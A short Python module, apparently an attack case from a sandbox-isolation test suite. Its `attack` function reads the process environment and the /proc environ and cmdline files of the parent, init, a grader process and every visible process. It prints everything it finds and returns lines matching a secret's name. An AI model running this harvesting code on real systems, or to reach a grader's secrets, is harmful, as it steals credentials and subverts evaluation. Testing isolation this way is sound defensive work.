"""Read /proc/<ppid>/environ, /proc/1/environ, /proc/*/environ and cmdline, os.environ."""
import contextlib
import os


def attack(grader_pid, zygote_pid, secret_name, **ctx):
    text = [repr(dict(os.environ))]
    pids = {str(os.getppid()), "1", str(grader_pid), str(zygote_pid), "self"}
    with contextlib.suppress(OSError):
        pids |= {p for p in os.listdir("/proc") if p.isdigit()}
    for pid in sorted(pids):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    text.append(f.read().decode(errors="replace"))
            except OSError:
                pass
    blob = "\n".join(text)
    print(blob)
    hits = [line for line in blob.replace("\0", "\n").splitlines() if secret_name in line]
    return hits
